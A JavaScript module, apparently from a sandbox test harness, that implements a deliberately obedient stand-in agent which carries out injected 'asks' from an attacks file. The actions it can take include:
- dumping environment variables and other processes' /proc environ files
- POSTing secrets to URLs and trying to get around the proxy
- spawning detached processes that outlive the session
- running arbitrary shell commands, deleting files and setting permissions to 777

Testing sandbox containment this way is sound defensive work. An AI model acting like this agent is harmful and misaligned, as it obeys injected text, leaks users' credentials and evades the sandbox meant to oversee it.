/** An agent that any text persuades: it looks for asks in all that it reads, and does each to the letter. */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { dirname, join } from 'node:path';

/** @param read all texts that reached it @returns its proposal, to be printed as it is */
export async function obey(event, read, agentDir) {
  const attacks = JSON.parse(readFileSync(join(agentDir, 'attacks.json'), 'utf8'));
  // A whole file in the queue names itself only by the words that it brings.
  const attack = attacks.find(({ id }) => event.payload.id === id) ?? attacks.find(ownFile(read));
  const proposal = { strata: 1, files: [], emits: [], reply: 'it heard nothing' };
  if (!attack || !read.join('\n').includes(attack.heard)) return JSON.stringify(proposal);
  proposal.reply = `persuaded by ${attack.id}`;
  let whole = null;
  const found = [];
  for (const ask of attack.asks) whole = (await act(ask, proposal, found)) ?? whole;
  if (found.length > 0)
    proposal.files.push({ path: `knowledge/notes/${attack.id}.md`, content: found.join('\n') });
  return whole ?? JSON.stringify(proposal);
}

const ownFile = (read) => (one) => one.carrier === 'event-file' && read.join('\n').includes(one.heard);

/** Whatever the sandbox refuses is passed over: the next ask may work. */
async function act(ask, proposal, found) {
  const [[verb, what]] = Object.entries(ask);
  try {
    return await VERBS[verb](what, proposal, found);
  } catch (error) {
    found.push(`${verb}: ${error.code ?? error.message}`);
    return undefined;
  }
}

const put = (path, content) => {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
};

/** As text that may be written, so that what was read lands if it can be read. */
const textOf = (path) => readFileSync(path, 'utf8').replaceAll('\0', '\n');

const VERBS = {
  write: (path) => put(path, 'injected\n'),
  propose: (path, { files }) => void files.push({ path, content: 'injected\n' }),
  delete: (path, { files }) => {
    rmSync(path, { force: true });
    files.push({ path, delete: true });
  },
  link: ([path, target]) => {
    mkdirSync(dirname(path), { recursive: true });
    symlinkSync(target, path);
  },
  chmod: (path) => chmodSync(path, 0o777),
  many: (count) => {
    for (let n = 0; n < count; n += 1) put(`knowledge/notes/many/${n}.md`, 'x');
  },
  emit: (type, { emits }) => void emits.push({ type, payload: {} }),
  address: ([type, agent], { emits }) => void emits.push({ type, next_agent: agent, payload: {} }),
  read: (path, _proposal, found) => void found.push(textOf(path.replace(/^~/, process.env.HOME))),
  env: (_yes, proposal, found) => {
    found.push(JSON.stringify(process.env));
    proposal.reply = JSON.stringify(process.env);
  },
  parents: (_yes, _proposal, found) => {
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
      try {
        found.push(textOf(`/proc/${pid}/environ`));
      } catch {
        // Not ours to see: the next one may be.
      }
    }
  },
  fetch: async (url, _proposal, found) => void found.push(await get(url)),
  send: async (url, _proposal, found) => void found.push(await get(url, JSON.stringify(process.env))),
  spawn: (mark) => {
    const late = `sleep 4; echo late > '${mark}'; echo late > knowledge/notes/late.md`;
    spawn('setsid', ['sh', '-c', late], { detached: true, stdio: 'ignore' }).unref();
  },
  exec: (line, _proposal, found) => {
    const { status } = spawnSync('sh', ['-c', line], { timeout: 5000 });
    found.push(`it ended with ${status}`);
  },
  say: (reply, proposal) => void (proposal.reply = reply),
  print: (line) => console.log(line),
  fault: (path, { files }) => void files.push({ path, content: 'x' }),
  raw: (proposal) => JSON.stringify(proposal),
  rawText: (text) => text,
};

/** By the way out that the sandbox left, and past it. */
export async function get(url, body) {
  const proxy = process.env.HTTP_PROXY;
  const direct = new URL(url);
  const through = proxy ? { host: new URL(proxy).hostname, port: new URL(proxy).port, path: url } : direct;
  const answers = [await ask(through, direct, body)];
  if (proxy && body !== undefined) answers.push(await ask(direct, direct, body));
  return answers.join('\n');
}

function ask(where, { host }, body) {
  return new Promise((resolve) => {
    const options = { method: body === undefined ? 'GET' : 'POST', headers: { host }, timeout: 5000 };
    const asked = where instanceof URL ? request(where, options) : request({ ...where, ...options });
    asked.on('response', (answer) => {
      let text = '';
      answer.setEncoding('utf8');
      answer.on('data', (chunk) => (text += chunk));
      answer.on('end', () => resolve(text));
      answer.on('error', () => resolve(text));
    });
    asked.on('timeout', () => asked.destroy());
    asked.on('error', (error) => resolve(`${error.code}`));
    asked.end(body);
  });
}

/** Texts in the files that came along, and their names. */
export function filesRead(files) {
  return files.flatMap((path) => {
    try {
      return [path, readFileSync(path, 'utf8')];
    } catch {
      return [];
    }
  });
}
